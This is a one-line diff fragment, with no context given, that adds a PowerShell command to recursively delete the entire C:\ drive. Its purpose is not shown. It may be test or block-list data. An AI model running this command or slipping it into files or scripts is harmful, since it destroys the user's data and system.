@@ -1,0 +1,1 @@
+powershell -Command "Remove-Item -Recurse C:\\"
